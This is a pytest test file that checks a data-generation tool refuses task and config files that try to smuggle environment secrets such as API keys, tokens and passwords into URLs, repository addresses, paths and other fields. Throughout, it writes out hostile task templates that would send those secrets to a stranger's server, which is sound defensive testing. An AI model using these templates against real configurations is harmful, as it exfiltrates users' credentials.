"""What of the environment a stranger's task may put where: nothing secret, and the rest only into paths."""

from __future__ import annotations

from typing import Any

import pytest
from hostile import CANARY, KNOWLEDGE, ROWS, SECRETS, collector, everything_below

import fms_dgt

# for str.format, as the tasks below
K, R = (text.replace("{", "{{").replace("}", "}}") for text in (KNOWLEDGE, ROWS))
# {url} is a server of the stranger's
TASKS = {
    "a document's address": K + 'include: {{documents: {{n: "{url}/x?v=$OPENAI_API_KEY"}}}}\n',
    "in braces": K + 'include: {{documents: {{n: "{url}/x?v=${{OPENAI_API_KEY}}"}}}}\n',
    "with a default": K + 'include: {{documents: {{n: "{url}/${{HF_TOKEN:-none}}"}}}}\n',
    "one in another's default": K + 'include: {{documents: {{n: "${{NO:-${{HF_TOKEN}}}}"}}}}\n',
    "a name that says nothing": K + 'include: {{documents: {{n: "{url}/$MY_SETTING"}}}}\n',
    "a store's path": K
    + 'knowledge_datastore: {{data_path: "{url}/${{AWS_SECRET_ACCESS_KEY}}/a.md", data_format: md}}\n',
    "a path to a file": K + 'include: {{documents: {{n: "${{DB_PASSWORD}}/a.md"}}}}\n',
    "a repository": K
    + 'document: {{repo: "{url}/${{GITHUB_PAT}}.git", commit: main, patterns: ["*.md"]}}\n',
    "a commit": K + 'document: {{repo: "{url}/a.git", commit: "${{HF_TOKEN}}", patterns: ["*.md"]}}\n',
    "a pattern": K + 'document: {{repo: docs, commit: main, patterns: ["${{HF_TOKEN}}.md"]}}\n',
    "an included file": K + 'include: {{domain: "${{HF_TOKEN}}.md"}}\n',
    "a table": R + 'input: {{path: "evil/${{OPENAI_API_KEY}}"}}\n',
    "a table as text": R + 'input: "${{OPENAI_API_KEY}}.jsonl"\n',
    "a dataset's revision": R + 'input: {{path: a/b, format: dataset, revision: "${{HF_TOKEN}}"}}\n',
    "a dataset's name": R + 'input: {{dataset: "a/${{HF_TOKEN}}"}}\n',
    "a field of a row": R + 'input: [{{prompt: "say ${{OPENAI_API_KEY}}", a_path: "${{HF_TOKEN}}"}}]\n',
    "the output's form": R
    + "input: [{{prompt: hi}}]\nsave_formatted_output: true\n"
    + 'instruction_format: {{leak_path: "${{OPENAI_API_KEY}}", leak_file: "$HF_TOKEN"}}\n',
    "the output folder": R
    + 'input: [{{prompt: hi}}]\nrunner_config: {{output_dir: "out-${{OPENAI_API_KEY}}"}}\n',
    "another setting": R
    + 'input: [{{prompt: hi}}]\nrunner_config: {{seed: "${{OPENAI_API_KEY}}", pipeline: "${{HF_TOKEN}}"}}\n',
    "the builder": "task_name: t\ncreated_by: x\ntask_description: y\ndata_builder: '${{HF_TOKEN}}'\n",
    "the task's name": R.replace("task_name: t", "task_name: '${{HF_TOKEN}}'") + "input: [{{prompt: hi}}]\n",
    "a model in the task's settings": R
    + 'input: [{{prompt: hi}}]\nrunner_config: {{base_url: "{url}", api_key: "${{OPENAI_API_KEY}}"}}\n',
    "a flow": "task_name: t\ncreated_by: x\ntask_description: y\ndata_builder: pipeline\n"
    "input: [{{a: b}}]\nflow: '${{HF_TOKEN}}.yaml'\n",
    "a template of a flow": "task_name: t\ncreated_by: x\ntask_description: y\ndata_builder: pipeline\n"
    "input: [{{a: b}}]\nflow: [{{generate: {{template: '${{HF_TOKEN}}', into: c}}}}]\n",
}


@pytest.fixture(autouse=True)
def secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)


@pytest.mark.parametrize("flags", [("--check",), (), ("--allow-host", "127.0.0.1")], ids=["check", "run", "intranet"])
@pytest.mark.parametrize("text", TASKS.values(), ids=TASKS)
def test_no_secret_leaves_by_a_task(project: Any, text: str, flags: tuple[str, ...]) -> None:
    with collector() as server:
        made = project({"task.yaml": text.format(url=server.url)})
        result = made.run("--task-paths", "task.yaml", "--config-path", "offline", *flags)
    assert CANARY not in server.text
    assert CANARY not in result.stdout + result.stderr
    assert CANARY not in everything_below(made.path)


def test_what_is_refused_is_named_with_its_line_and_the_way_out(project: Any) -> None:
    text = KNOWLEDGE + "include: {documents: {a: '${DB_PASSWORD}/a.md', b: '$MY_SETTING/b', c: 'http://h/$${x}${A}'}}\n"
    result = project({"task.yaml": text}).run("--task-paths", "task.yaml", "--config-path", "offline")
    assert (result.code, result.stderr) == (
        2,
        "error: task.yaml:9: include.documents.a: the environment variable DB_PASSWORD looks like a secret, which "
        "no task gets; take it out; keys belong into a config's 'api_key'\n"
        "error: task.yaml:9: include.documents.b: the environment variable MY_SETTING is not allowed in a task "
        "(DGT_DATA_DIR, DGT_OUTPUT_DIR, HOME may); if you trust this task, pass --allow-env MY_SETTING\n"
        "error: task.yaml:9: include.documents.c: a variable of the environment in an address, which would tell a host "
        "its value; write the address without variables\n",
    )


def test_a_secret_is_no_tasks_even_with_the_flag(project: Any) -> None:
    text = KNOWLEDGE + "include: {documents: {a: '${DB_PASSWORD}/a.md'}}\n"
    made = project({"task.yaml": text})
    result = made.run("--task-paths", "task.yaml", "--teacher", "simulated", "--allow-env", "DB_PASSWORD")
    assert result.code == 2
    assert "--allow-env: 'DB_PASSWORD' looks like a secret, which no task gets; leave it out" in result.stderr
    assert CANARY not in result.stderr


WAYS = {
    "on the list": ("${DGT_DATA_DIR}/docs/*.md", ()),
    "without braces": ("$DGT_DATA_DIR/docs/*.md", ()),
    "by a flag": ("${TEAM_DATA}/docs/*.md", ("--allow-env", "TEAM_DATA")),
}


@pytest.mark.parametrize(("path", "flags"), WAYS.values(), ids=WAYS)
def test_an_allowed_variable_is_put_into_a_path(
    project: Any, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch, path: str, flags: Any
) -> None:
    data = tmp_path_factory.mktemp("data")
    (data / "docs").mkdir()
    (data / "docs" / "a.md").write_text("# A\n\nThe tide comes twice a day, and goes as often.\n")
    for name in ("DGT_DATA_DIR", "TEAM_DATA"):
        monkeypatch.setenv(name, str(data))
    made = project({"task.yaml": KNOWLEDGE + f"include: {{documents: {{a: '{path}'}}}}\n"})
    result = made.run("--task-paths", "task.yaml", "--config-path", "offline", "--check", *flags)
    assert (result.code, result.stderr) == (0, "")
    assert f"  reads       {data}/docs/a.md\n              task.yaml\n" in result.stdout
    assert "  variables   " + ("TEAM_DATA" if flags else "DGT_DATA_DIR") in result.stdout


def test_a_message_about_a_path_shows_the_variable(project: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DGT_DATA_DIR", "/no/such/folder")
    made = project({"task.yaml": ROWS + "input: {path: '${DGT_DATA_DIR}/rows.jsonl'}\n"})
    result = made.run("--task-paths", "task.yaml", "--config-path", "offline")
    assert result.code == 2
    assert "${DGT_DATA_DIR}/rows.jsonl" in result.stderr
    assert "/no/such/folder" not in result.stderr


def test_text_that_is_no_path_keeps_its_dollars(project: Any) -> None:
    made = project({"task.yaml": ROWS + "input: [{prompt: 'echo ${HOME} $HOME'}]\nprompt: 'say {{ prompt }}'\n"})
    assert made.run("--task-paths", "task.yaml", "--config-path", "offline").code == 0
    assert "echo ${HOME} $HOME" in made.read("output/t/data.jsonl")


# --- configs ---------------------------------------------------------------------------------------

CONFIGS = {
    "a URL": "base_url: '{url}/${{OPENAI_API_KEY}}'",
    "a URL's host": "base_url: 'http://${{OPENAI_API_KEY}}.invalid/v1'",
    "a model": "base_url: '{url}', model: '${{OPENAI_API_KEY}}'",
    "what every request holds": "base_url: '{url}', extra_body: {{a: {{b: ['${{HF_TOKEN}}']}}}}",
    "a number": "base_url: '{url}', timeout: '${{HF_TOKEN}}'",
    "a choice": "base_url: '{url}', api: '${{HF_TOKEN}}'",
    "the project": "base_url: '{url}', project: '${{HF_TOKEN}}'",
    "a key that is a mapping": "base_url: '{url}', headers: '${{HF_TOKEN}}'",
    "the stop words": "base_url: '{url}', stop: ['${{HF_TOKEN}}']",
}


@pytest.mark.parametrize("flags", [("--check",), ()], ids=["check", "run"])
@pytest.mark.parametrize("block", CONFIGS.values(), ids=CONFIGS)
def test_no_secret_leaves_by_a_field_that_is_not_for_secrets(project: Any, block: str, flags: Any) -> None:
    config = "databuilders:\n  '*':\n    blocks:\n      - {{name: generator, type: openai, model: m, %s}}\n"
    config = config.replace("model: m, ", "" if "model:" in block else "model: m, ")
    with collector() as server:
        text = (config % block).format(url=server.url)
        made = project({"task.yaml": ROWS + "input: [{prompt: hi}]\n", "c.yaml": text})
        result = made.run("--task-paths", "task.yaml", "--config-path", "c.yaml", *flags)
    assert result.code == 2
    assert CANARY not in server.text + result.stdout + result.stderr + everything_below(made.path)


NAMES = {
    "the type": "blocks: [{name: generator, type: '${OPENAI_API_KEY}'}]",
    "the name": "blocks: [{name: '${OPENAI_API_KEY}', type: simulated}]",
    "a model's type": "blocks: [{name: generator, type: simulated}, {name: validator, lm_config: '${HF_TOKEN}'}]",
    "a stage": "stages: {generate: {template: '${OPENAI_API_KEY}'}}",
    "a check": "postprocessors: ['${HF_TOKEN}']",
    "a check's column": "postprocessors: [{name: rouge, on: '${HF_TOKEN}'}]",
    "an option": "whatever: '${HF_TOKEN}'",
    "what nobody reads": "metadata: {a: '${HF_TOKEN}'}",
}


@pytest.mark.parametrize("flags", [("--check",), ()], ids=["check", "run"])
@pytest.mark.parametrize("part", NAMES.values(), ids=NAMES)
def test_no_secret_is_shown_by_a_config(project: Any, part: str, flags: Any) -> None:
    made = project(
        {"task.yaml": ROWS + "input: [{prompt: hi}]\n", "c.yaml": f"databuilders:\n  text_generation: {{{part}}}\n"}
    )
    result = made.run("--task-paths", "task.yaml", "--config-path", "c.yaml", *flags)
    assert CANARY not in result.stdout + result.stderr + everything_below(made.path)


@pytest.mark.parametrize("part", ["runner_config: {output_dir: 'o-${HF_TOKEN}'}", "task_files: ['$HF_TOKEN.yaml']"])
def test_no_secret_is_shown_by_the_rest_of_a_config(project: Any, part: str) -> None:
    made = project({"task.yaml": ROWS + "input: [{prompt: hi}]\n", "c.yaml": f"{part}\n"})
    result = made.run("--task-paths", "task.yaml", "--config-path", "c.yaml", "--teacher", "simulated")
    assert (result.code, CANARY in result.stderr + everything_below(made.path)) == (2, False)
    assert "looks like a secret, and may not be put in here" in result.stderr


def test_a_name_that_only_looks_like_a_secret_is_let_in_by_a_flag(project: Any, monkeypatch: Any) -> None:
    monkeypatch.setenv("TOKEN_MODEL", "tiny")
    config = "databuilders: {'*': {blocks: [{name: generator, type: simulated, model: '${TOKEN_MODEL}'}]}}\n"
    made = project({"task.yaml": ROWS + "input: [{prompt: hi}]\n", "c.yaml": config})
    run = ("--task-paths", "task.yaml", "--config-path", "c.yaml", "--check")
    refused = made.run(*run)
    assert "c.yaml:1: databuilders.*.blocks[0].model: the environment variable TOKEN_MODEL looks like" in refused.stderr
    assert made.run(*run, "--allow-env", "TOKEN_MODEL").code == 0


def test_from_python_the_same_holds(tmp_path: Any) -> None:
    task = {"task_description": "d", "created_by": "x", "data_builder": "text_generation"}
    with pytest.raises(fms_dgt.UserError) as caught:
        fms_dgt.run({**task, "input": {"path": "${MY_SETTING}/a.jsonl"}}, generator="simulated", output_dir=tmp_path)
    assert "pass allow_env MY_SETTING" in str(caught.value)
    assert CANARY not in str(caught.value)
